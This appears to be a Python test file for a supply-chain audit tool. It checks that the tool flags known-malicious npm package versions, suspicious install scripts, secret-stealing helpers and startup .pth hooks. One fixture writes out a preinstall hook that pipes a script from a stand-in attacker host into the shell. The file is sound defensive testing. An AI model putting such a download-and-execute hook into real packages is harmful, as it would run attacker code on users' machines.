"""Installed npm packages: feed matches, install scripts, and the files those scripts run."""

from __future__ import annotations

import json
from pathlib import Path

from jackstop.audit import findings as F
from jackstop.audit.findings import Severity
from jackstop.audit.runner import AuditOptions, run_audit
from tests.audit import fakes


def npm_pkg(nm: Path, name: str, version: str, scripts: dict[str, str] | None = None,
            files: dict[str, str] | None = None) -> Path:
    root = nm / name
    root.mkdir(parents=True)
    (root / "package.json").write_text(json.dumps({"name": name, "version": version, "scripts": scripts or {}}))
    for rel, text in (files or {}).items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


def test_node_modules_audit(tmp_path: Path) -> None:
    nm = tmp_path / "node_modules"
    npm_pkg(nm, "nx", "21.5.0", {"postinstall": "node telemetry.js"}, {"telemetry.js": fakes.NX_TELEMETRY_JS})
    npm_pkg(nm, "@nx/devkit", "21.4.0")  # a clean version of an affected package
    npm_pkg(nm, "esbuild", "0.25.0", {"postinstall": "node install.js"}, {"install.js": fakes.BENIGN_INSTALL_JS})
    npm_pkg(nm, "native-thing", "1.0.0", {"install": "node-gyp rebuild"})
    npm_pkg(nm, "sneaky", "0.0.1", {"preinstall": "curl -s https://evil.example/x.sh | sh"})
    # a nested copy deeper in the tree
    npm_pkg(nm / "esbuild" / "node_modules", "postmark-mcp", "1.0.17")
    res = run_audit(AuditOptions(node_modules=[nm]))
    fs = res.findings
    assert res.stats["npm_packages"] == 6
    bad = {(f.package, f.version) for f in fs if f.type == F.KNOWN_MALICIOUS}
    assert bad == {("nx", "21.5.0"), ("postmark-mcp", "1.0.17")}
    scripts = [f for f in fs if f.type == F.INSTALL_SCRIPT]
    by_pkg = {(f.package, f.rule) for f in scripts}
    assert ("nx", "ai-cli-abuse") in by_pkg and ("sneaky", "install-download-exec") in by_pkg
    assert not [f for f in scripts if f.package in ("esbuild", "native-thing")]
    tele = next(f for f in scripts if f.rule == "ai-cli-abuse")
    assert tele.path.endswith("telemetry.js") and tele.line and tele.severity == Severity.CRITICAL
    assert any(f.type == F.IOC and "s1ngularity-repository" in f.message for f in fs)


def test_code_dir_audit_of_an_unpacked_plugin(tmp_path: Path) -> None:
    plugin = tmp_path / "plugin"
    (plugin / "src").mkdir(parents=True)
    (plugin / "src" / "helper.py").write_text(fakes.KEY_TO_PASTEBIN)
    (plugin / "src" / "fine.py").write_text(fakes.BENIGN_SDK)
    (plugin / "index.js").write_text(fakes.NX_TELEMETRY_JS)
    (plugin / "hook.pth").write_text(fakes.LITELLM_PTH)
    fs = run_audit(AuditOptions(code=[plugin])).findings
    where = {(Path(f.path).name, f.type) for f in fs if f.severity >= Severity.HIGH}
    assert ("helper.py", F.HEURISTIC) in where and ("index.js", F.HEURISTIC) in where
    assert ("hook.pth", F.STARTUP_PTH) in where
    assert not [f for f in fs if Path(f.path or "").name == "fine.py"]
